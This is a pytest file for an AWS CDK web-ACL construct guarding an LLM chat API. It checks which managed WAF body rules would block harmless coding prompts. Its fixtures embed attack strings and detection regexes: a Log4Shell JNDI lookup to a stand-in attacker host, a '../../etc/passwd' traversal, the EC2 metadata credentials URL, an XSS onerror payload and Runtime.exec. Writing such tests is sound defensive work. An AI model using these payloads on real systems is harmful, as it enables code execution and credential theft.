"""RegionalWebAcl: managed groups, rate rule, logs, and which managed rules would block an LLM prompt.

AWS, "AWS Managed Rules rule groups list" → "Baseline rule groups"
(https://docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-baseline.html) documents
each rule of AWSManagedRulesCommonRuleSet and AWSManagedRulesKnownBadInputsRuleSet with what it inspects
and an example pattern; `DOCUMENTED_BODY_SIGNS` below restates, per body-inspecting rule, the pattern
that description names, and the prompts are matched against those signs, not against the code.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable

import aws_cdk as cdk
import pytest
from aws_cdk.assertions import Template

from llm_hosting_constructs.waf import BODY_RULES, DEFAULT_MANAGED_RULE_GROUPS, RegionalWebAcl
from tests.cfn import count_overrides, only

# Rule → the sign AWS's description gives (regional web ACLs inspect the first 8 KB of the body).
DOCUMENTED_BODY_SIGNS: dict[str, Callable[[str], bool]] = {
    # "Inspects the request body for common cross-site scripting (XSS) patterns ... <script>alert("hello")</script>"
    "CrossSiteScripting_BODY": lambda b: re.search(r"<\s*script|\bon[a-z]+\s*=|javascript:", b, re.I) is not None,
    # "Local File Inclusion (LFI) exploits in the request body ... path traversal ... ../../"
    "GenericLFI_BODY": lambda b: "../../" in b,
    # "RFI ... embedding URLs that contain IPv4 addresses ... http://, https://, ftp://, ftps://, file://"
    "GenericRFI_BODY": lambda b: re.search(r"(?:https?|ftps?|file)://\d{1,3}(?:\.\d{1,3}){3}", b) is not None,
    # "attempts to exfiltrate Amazon EC2 metadata from the request body" (the metadata endpoint's address)
    "EC2MetaDataSSRF_BODY": lambda b: "169.254.169.254" in b,
    # "request bodies that are over 8 KB (8,192 bytes)"
    "SizeRestrictions_BODY": lambda b: len(b.encode()) > 8192,
    # "Log4j vulnerability ... Example patterns include ${jndi:ldap://example.com/}"
    "Log4JRCE_BODY": lambda b: "${jndi:" in b.lower(),
    # "Java deserialization RCE ... (java.lang.Runtime).getRuntime().exec("whoami")"
    "JavaDeserializationRCE_BODY": lambda b: "getruntime().exec(" in b.lower(),
}

_DDL = "\n".join(
    f"CREATE TABLE orders_{i} (id bigint PRIMARY KEY, customer_id bigint NOT NULL REFERENCES customers(id), "
    f"total numeric(12,2), created_at timestamptz DEFAULT now());"
    for i in range(80)
)

# (what a user asks, the managed rules that would have blocked it in Block mode per the signs above)
PROMPTS: list[tuple[str, str, set[str]]] = [
    ("react component", "Why does this re-render twice?\n```jsx\nexport function Like({ id }) {\n"
     "  const [n, setN] = useState(0);\n  return <button onClick={() => setN(n + 1)}>{n}</button>;\n}\n```",
     {"CrossSiteScripting_BODY"}),
    ("html page", "Explain what this page does: <html><body><script>document.title = 'hi'</script></body></html>",
     {"CrossSiteScripting_BODY"}),
    ("xss question", "Is DOMPurify enough to sanitise `<img src=x onerror=alert(1)>` in user comments?",
     {"CrossSiteScripting_BODY"}),
    ("vue link", 'Replace the `<a href="javascript:void(0)" @click="open">` in my Vue template with a button.',
     {"CrossSiteScripting_BODY"}),
    ("sql migration", f"Review this migration for missing indexes:\n```sql\n{_DDL}\n```", {"SizeRestrictions_BODY"}),
    ("shell transcript", "I ran this in the container, what went wrong?\n$ cd /app/uploads\n"
     "$ cat ../../etc/passwd\nroot:x:0:0:root:/root:/bin/bash", {"GenericLFI_BODY"}),
    ("python path", "open('../../config/settings.yaml') fails in pytest but works from the shell. Why?",
     {"GenericLFI_BODY"}),
    ("metadata question", "Our pentest flagged http://169.254.169.254/latest/meta-data/iam/security-credentials/ "
     "as reachable from the app. What does IMDSv2 change?", {"EC2MetaDataSSRF_BODY", "GenericRFI_BODY"}),
    ("imds token", "Is this right for IMDSv2?\ncurl -X PUT http://169.254.169.254/latest/api/token "
     "-H 'X-aws-ec2-metadata-token-ttl-seconds: 21600'", {"EC2MetaDataSSRF_BODY", "GenericRFI_BODY"}),
    ("nginx config", "Why does nginx return 502 here?\nlocation /api/ { proxy_pass http://10.0.1.15:8080/; }",
     {"GenericRFI_BODY"}),
    ("dockerfile", "Make this reproducible: ADD ftp://192.168.1.20/pkg/tool.tar.gz /opt/", {"GenericRFI_BODY"}),
    ("log4shell triage", "Security team here: our WAF logs show User-Agent ${jndi:ldap://attacker.example/a}. "
     "Which Log4j versions are affected and how do we check our fleet?", {"Log4JRCE_BODY"}),
    ("java exec", "Code review: is `Runtime.getRuntime().exec(cmd)` with a user-provided cmd dangerous?",
     {"JavaDeserializationRCE_BODY"}),
    ("long document", "Summarise the incident report below in five bullet points.\n" + "The on-call engineer "
     "saw rising latency on the checkout service and paged the database team. " * 120, {"SizeRestrictions_BODY"}),
]


def chat_body(prompt: str) -> str:
    """What the client actually sends: an OpenAI chat request (WAF inspects this JSON)."""
    return json.dumps({"model": "m", "messages": [{"role": "user", "content": prompt}]})


def blocking_rules(body: str) -> set[str]:
    return {rule for rule, sign in DOCUMENTED_BODY_SIGNS.items() if sign(body)}


@pytest.fixture(scope="module")
def waf_template() -> dict:
    s = cdk.Stack(cdk.App(), "W", env=cdk.Environment(account="123456789012", region="eu-west-1"))
    waf = RegionalWebAcl(s, "Waf", rate_limit=500)
    waf.associate("Assoc", "arn:aws:apigateway:eu-west-1::/restapis/abc/stages/dev")
    return Template.from_stack(s).to_json()


def test_at_least_twelve_prompts_and_every_body_rule_is_exercised() -> None:
    assert len(PROMPTS) >= 12
    assert set().union(*(rules for _, _, rules in PROMPTS)) == set(DOCUMENTED_BODY_SIGNS)


@pytest.mark.parametrize("name,prompt,rules", PROMPTS, ids=[p[0] for p in PROMPTS])
def test_each_prompt_carries_the_documented_sign_of_its_rule(name: str, prompt: str, rules: set[str]) -> None:
    assert blocking_rules(chat_body(prompt)) == rules


@pytest.mark.parametrize("name,prompt,rules", PROMPTS, ids=[p[0] for p in PROMPTS])
def test_no_rule_that_would_block_a_prompt_blocks(waf_template: dict, name: str, prompt: str, rules: set[str]) -> None:
    counted = count_overrides(only(waf_template, "AWS::WAFv2::WebACL")["Properties"])
    for rule in blocking_rules(chat_body(prompt)):
        group = next(g for g, members in BODY_RULES.items() if rule in members)
        assert rule in counted[group], f"{name}: {group}/{rule} would block it"


def test_only_the_body_rules_count_the_rest_keep_blocking(waf_template: dict) -> None:
    """Exactly the documented body-inspecting rules count; URI, query, header and cookie rules block."""
    counted = count_overrides(only(waf_template, "AWS::WAFv2::WebACL")["Properties"])
    assert counted == {
        "AWSManagedRulesCommonRuleSet": {
            "SizeRestrictions_BODY", "EC2MetaDataSSRF_BODY", "GenericLFI_BODY", "GenericRFI_BODY",
            "CrossSiteScripting_BODY",
        },
        "AWSManagedRulesKnownBadInputsRuleSet": {"JavaDeserializationRCE_BODY", "Log4JRCE_BODY"},
        "AWSManagedRulesAmazonIpReputationList": set(),
    }


def test_default_count_only_follows_the_groups_in_use() -> None:
    s = cdk.Stack(cdk.App(), "W")
    RegionalWebAcl(s, "Waf", managed_rule_groups=("AWSManagedRulesCommonRuleSet",))
    counted = count_overrides(only(Template.from_stack(s).to_json(), "AWS::WAFv2::WebACL")["Properties"])
    assert counted == {"AWSManagedRulesCommonRuleSet": set(BODY_RULES["AWSManagedRulesCommonRuleSet"])}


def test_waf_has_managed_groups_then_rate_rule(waf_template: dict) -> None:
    acl = only(waf_template, "AWS::WAFv2::WebACL")["Properties"]
    assert acl["Scope"] == "REGIONAL" and acl["DefaultAction"] == {"Allow": {}}
    groups = [r["Statement"]["ManagedRuleGroupStatement"]["Name"] for r in acl["Rules"][:-1]]
    assert groups == list(DEFAULT_MANAGED_RULE_GROUPS)
    rate = acl["Rules"][-1]
    assert rate["Action"] == {"Block": {}}
    assert rate["Statement"]["RateBasedStatement"] == {"AggregateKeyType": "IP", "EvaluationWindowSec": 300, "Limit": 500}


def test_waf_logs_redact_keys(waf_template: dict) -> None:
    logging = only(waf_template, "AWS::WAFv2::LoggingConfiguration")["Properties"]
    assert {f["SingleHeader"]["Name"] for f in logging["RedactedFields"]} == {"x-api-key", "authorization"}
    group = only(waf_template, "AWS::Logs::LogGroup")["Properties"]
    assert group["LogGroupName"].startswith("aws-waf-logs-") and "KmsKeyId" in group


@pytest.mark.parametrize("change,message", [({"rate_limit": 10}, "rate_limit"), ({"count_only": {"Nope": ("x",)}}, "Nope")])
def test_waf_rejects_bad_props(change: dict, message: str) -> None:
    s = cdk.Stack(cdk.App(), "W")
    with pytest.raises(ValueError, match=message):
        RegionalWebAcl(s, "Waf", **change)


def test_waf_log_key_is_scoped_to_the_waf_log_group(waf_template: dict) -> None:
    statements = only(waf_template, "AWS::KMS::Key")["Properties"]["KeyPolicy"]["Statement"]
    (logs_statement,) = [s for s in statements if s.get("Sid") == "CloudWatchLogsOfThisAccountAndRegion"]
    assert "log-group:aws-waf-logs-" in json.dumps(logs_statement["Condition"])